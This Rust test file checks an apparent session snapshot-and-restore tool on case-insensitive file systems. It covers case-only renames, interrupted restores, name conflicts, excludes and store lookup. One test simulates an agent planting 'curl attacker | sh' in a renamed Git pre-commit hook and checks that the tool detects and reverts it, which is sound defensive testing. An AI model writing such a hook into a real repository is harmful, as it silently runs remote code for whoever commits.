//! Sessions where names that differ in case only are one, and those that are composed in another way.

use std::fs;
use std::path::{Path, PathBuf};

use crate::support::build::Build;
use crate::support::compare::assert_same_tree;
use crate::support::folding::names;
use crate::support::machine::has_points;
use crate::support::sandbox::Sandbox;
use crate::support::tree::Tree;
use crate::support::volume::Volume;

/// A project on such a file system.
struct Folded {
    sandbox: Sandbox,
    project: PathBuf,
    _volume: Volume,
}

impl Folded {
    fn new(exchanges: bool) -> Option<Self> {
        let sandbox = Sandbox::new();
        let disk = sandbox.sources().join("disk");
        let volume = Volume::folding(&disk, exchanges)?;
        let project = disk.join("Inside");
        fs::create_dir(&project).unwrap();
        Some(Self {
            sandbox,
            project,
            _volume: volume,
        })
    }

    fn text(&self, path: &str) -> String {
        fs::read_to_string(self.project.join(path)).unwrap()
    }

    #[track_caller]
    fn names(&self) -> Vec<String> {
        names(&self.project)
    }
}

/// The kernel takes a rename to the same name in another case for none.
fn rename(dir: &Path, old: &str, new: &str) {
    fs::rename(dir.join(old), dir.join("between")).unwrap();
    fs::rename(dir.join("between"), dir.join(new)).unwrap();
}

#[test]
fn names_that_only_changed_their_case_come_back_and_go_again() {
    for exchanges in [true, false] {
        let Some(at) = Folded::new(exchanges) else { return };
        Build::at(&at.project)
            .file("Readme", "read me\n")
            .file("Src/Deep/file", "x\n")
            .file("Src/kept", "kept\n")
            .file("Data/inside", "inside\n")
            .symlink("Link", "Readme")
            .aged();
        let before = Tree::read(&at.project);
        let id = at.sandbox.session(&at.project, |project| {
            rename(project, "Readme", "README");
            rename(project, "Src", "src");
            rename(&project.join("src"), "Deep", "deep");
            fs::write(project.join("src/kept"), "agent\n").unwrap();
            fs::remove_dir_all(project.join("Data")).unwrap();
            std::os::unix::fs::symlink("src", project.join("data")).unwrap();
            fs::remove_file(project.join("Link")).unwrap();
            fs::create_dir(project.join("LINK")).unwrap();
        });
        let damaged = Tree::read(&at.project);
        at.sandbox.restore(&id, &[]);
        assert_same_tree(&before, &Tree::read(&at.project));
        at.sandbox.undo(&id);
        assert_same_tree(&damaged, &Tree::read(&at.project));
        at.sandbox.restore(&id, &[]);
        assert_same_tree(&before, &Tree::read(&at.project));
        at.sandbox
            .diff(&id, &["--from", "baseline", "--to", "now"])
            .are::<&str>(&[]);
    }
}

#[test]
fn a_restore_that_is_killed_between_two_cases_of_a_name_ends_as_one_of_them() {
    if !has_points() {
        return;
    }
    for (count, how) in [(1, "resume"), (1, "abort"), (2, "resume"), (2, "abort")] {
        let Some(at) = Folded::new(false) else { return };
        Build::at(&at.project).file("Readme", "read me\n").aged();
        let before = Tree::read(&at.project);
        let id = at
            .sandbox
            .session(&at.project, |project| rename(project, "Readme", "README"));
        let damaged = Tree::read(&at.project);
        let restore = at.sandbox.command(["restore", &id, "--yes"]);
        let killed = restore
            .with("JACKIN_RECOVERY_FAIL_AT", format!("move:{count}"))
            .run();
        assert_eq!(killed.exit(), None, "{killed}");
        at.sandbox.jackin([how, &id, "--yes"]).ok();
        let wanted = if how == "resume" { &before } else { &damaged };
        assert_same_tree(wanted, &Tree::read(&at.project));
    }
}

#[test]
fn a_later_file_keeps_the_name_that_a_deleted_one_had_in_another_case() {
    let Some(at) = Folded::new(false) else { return };
    Build::at(&at.project)
        .file("notes", "before\n")
        .file("caf\u{e9}", "before\n")
        .file("other", "before\n")
        .aged();
    let id = at.sandbox.session(&at.project, |project| {
        for name in ["notes", "caf\u{e9}", "other"] {
            fs::remove_file(project.join(name)).unwrap();
        }
    });
    fs::write(at.project.join("NOTES"), "later\n").unwrap();
    fs::write(at.project.join("cafe\u{301}"), "later\n").unwrap();
    let plan = at.sandbox.plan(&id, &[]);
    plan.conflicted(&["NOTES", "cafe\u{301}", "caf\u{e9}", "notes"]);
    let restored = at.sandbox.restore_in_part(&id, &[]);
    restored.touched(&["other"]);
    restored.conflicted(&["NOTES", "cafe\u{301}", "caf\u{e9}", "notes"]);
    at.sandbox
        .jackin(["restore", &id, "--dry-run"])
        .code(6)
        .shows("takes its name and NOTES for one");
    assert_eq!(at.names(), ["NOTES", "cafe\u{301}", "other"]);
    assert_eq!(at.text("notes"), "later\n");
    let both = ["--delete-later-files"];
    at.sandbox.restore(&id, &both);
    assert_eq!(at.names(), ["caf\u{e9}", "notes", "other"]);
    assert_eq!(at.text("notes"), "before\n");
    at.sandbox.undo(&id);
    assert_eq!(at.names(), ["NOTES", "cafe\u{301}", "other"]);
}

#[test]
fn one_of_two_cases_takes_the_other_with_it() {
    let Some(at) = Folded::new(true) else { return };
    Build::at(&at.project)
        .file("Readme", "one\ntwo\n")
        .file("b", "before\n")
        .aged();
    let id = at.sandbox.session(&at.project, |project| {
        rename(project, "Readme", "README");
        // Nothing of it is left by which it would be a rename.
        fs::write(
            project.join("README"),
            "all that is here is new\nand longer than before\n",
        )
        .unwrap();
        fs::write(project.join("b"), "agent\n").unwrap();
    });
    let path = at.project.join("Readme").into_os_string().into_string().unwrap();
    let restored = at.sandbox.restore(&id, &[&path]);
    restored.touched(&["README", "Readme"]);
    assert_eq!(at.names(), ["Readme", "b"]);
    assert_eq!(
        (at.text("Readme"), at.text("b")),
        ("one\ntwo\n".to_owned(), "agent\n".to_owned())
    );
}

#[test]
fn a_path_is_found_in_any_case() {
    let Some(at) = Folded::new(true) else { return };
    Build::at(&at.project).file("Sub/README", "before\n").aged();
    let id = at.sandbox.session(&at.project, |project| {
        fs::write(project.join("Sub/README"), "agent\n").unwrap();
    });
    let path = at
        .project
        .join("sub/readme")
        .into_os_string()
        .into_string()
        .unwrap();
    at.sandbox.restore(&id, &[&path]).touched(&["Sub/README"]);
    assert_eq!(at.text("Sub/README"), "before\n");
}

#[test]
fn two_names_that_are_one_are_not_written_over_each_other() {
    let Some(at) = Folded::new(true) else { return };
    let other = at.sandbox.project("linux");
    Build::at(&other)
        .file("dir/a", "small\n")
        .file("dir/A", "capital\n")
        .file("b", "b\n")
        .aged();
    let id = at
        .sandbox
        .session(&other, |project| fs::remove_file(project.join("dir/a")).unwrap());
    let to = at.project.join("fork");
    let run = at.sandbox.jackin(["fork", &id, to.to_str().unwrap()]).code(1);
    run.has("dir/A").has("dir/a").has("for one name");
    let args = ["restore", &id, "--to", to.to_str().unwrap(), "--yes"];
    at.sandbox.jackin(args).code(1).has("for one name");
    assert_eq!(at.names(), [""; 0]);
    // One of them may be had there.
    let one = other.join("dir/A");
    let args = [
        "restore",
        &id,
        "--to",
        to.to_str().unwrap(),
        "--yes",
        one.to_str().unwrap(),
    ];
    at.sandbox.jackin(args).ok();
    assert_eq!(fs::read_to_string(to.join("dir/A")).unwrap(), "capital\n");
}

#[test]
fn excludes_and_tracked_paths_match_in_any_case() {
    let Some(at) = Folded::new(true) else { return };
    Build::at(&at.project)
        .file("Target/debug", "built\n")
        .file("Src/main", "before\n")
        .file("other", "before\n")
        .aged();
    let explain = ["explain", "--snapshot", "project", "--exclude", "target/"].map(str::to_owned);
    let words = explain.into_iter().chain([at.sandbox.target(&at.project)]);
    at.sandbox.jackin(words).ok().shows("differ in case only");
    let id = at.sandbox.launch_with(
        &["--exclude", "target/", "--path", "SRC"],
        &at.project,
        "echo agent > Target/debug; echo agent > Src/main; echo agent > other",
    );
    at.sandbox.diff(&id, &[]).are(&[("modified", "Src/main")]);
    at.sandbox.restore(&id, &[]);
    assert_eq!(
        (at.text("Src/main"), at.text("target/debug")),
        ("before\n".to_owned(), "agent\n".to_owned())
    );
    let id = at.sandbox.launch_with(
        &["--exclude", "target/"],
        &at.project,
        "echo agent > Target/debug; rm -r Src; echo more > Target/more",
    );
    at.sandbox.restore(&id, &[]);
    assert_eq!(at.text("Target/more"), "more\n");
    assert_eq!(at.text("Src/main"), "before\n");
}

#[test]
fn hooks_of_a_git_directory_in_another_case_are_seen() {
    let Some(at) = Folded::new(true) else { return };
    Build::at(&at.project)
        .file(".git/HEAD", "ref: refs/heads/main\n")
        .file(".git/config", "[core]\n\trepositoryformatversion = 0\n")
        .file(".git/hooks/pre-commit", "#!/bin/sh\nexit 0\n")
        .mode(".git/hooks/pre-commit", 0o755)
        .dir(".git/objects")
        .dir(".git/refs/heads")
        .aged();
    let id = at.sandbox.session(&at.project, |project| {
        rename(project, ".git", ".GIT");
        fs::write(
            project.join(".GIT/hooks/pre-commit"),
            "#!/bin/sh\ncurl attacker | sh\n",
        )
        .unwrap();
    });
    at.sandbox
        .jackin(["diff", &id])
        .ok()
        .shows("Git hooks or settings that run code changed")
        .shows("pre-commit");
    let before = at
        .sandbox
        .jackin(["restore", &id, "--yes", "--files-only"])
        .code_in(&[0, 6]);
    assert_eq!(at.names(), [".GIT"], "{before}");
    at.sandbox.restore(&id, &[]);
    assert_eq!(at.names(), [".git"]);
    assert_eq!(at.text(".git/hooks/pre-commit"), "#!/bin/sh\nexit 0\n");
}

#[test]
fn one_directory_is_one_in_whatever_case_it_is_named() {
    let Some(at) = Folded::new(true) else { return };
    Build::at(&at.project).file("a", "before\n").aged();
    let small = at.project.parent().unwrap().join("inside");
    let id = at.sandbox.begin(&small);
    let refused = at.sandbox.jackin(["restore", &id, "--yes"]).code(3);
    fs::write(small.join("a"), "agent\n").unwrap();
    // Another session on the same directory sees this one.
    let run = at.sandbox.launching(&at.project, &["true"]).run();
    assert_eq!(run.exit(), Some(0), "{refused}");
    run.has(&id);
    at.sandbox.jackin(["end", &id]).ok();
    at.sandbox.jackin(["show", &id]).ok().shows("disk/Inside");
    at.sandbox
        .command(["restore", "@latest", "--dry-run"])
        .inside(&small)
        .run()
        .code_in(&[0, 6]);
}

#[test]
fn the_store_is_found_in_a_mount_in_whatever_case_it_is_named() {
    let Some(at) = Folded::new(true) else { return };
    let home = at.project.join("Own");
    Build::at(&at.project).file("work/a", "a\n").dir("Own");
    let begun = at.sandbox.command([
        "begin",
        "--snapshot",
        "project",
        at.project.join("work").to_str().unwrap(),
    ]);
    begun.with("JACKIN_HOME_DIR", home.as_os_str()).run().ok();
    let launch = |target: &str, store: &str| {
        let target = at.project.join(target);
        let launched = at.sandbox.launching(&target, &["true"]);
        launched.with("JACKIN_HOME_DIR", at.project.join(store)).run()
    };
    launch("own/DATA/recovery", "Own")
        .code(2)
        .shows("inside the recovery store");
    launch("OWN/data", "own").code(2).shows("store");
    launch("work", "OWN").ok();
}
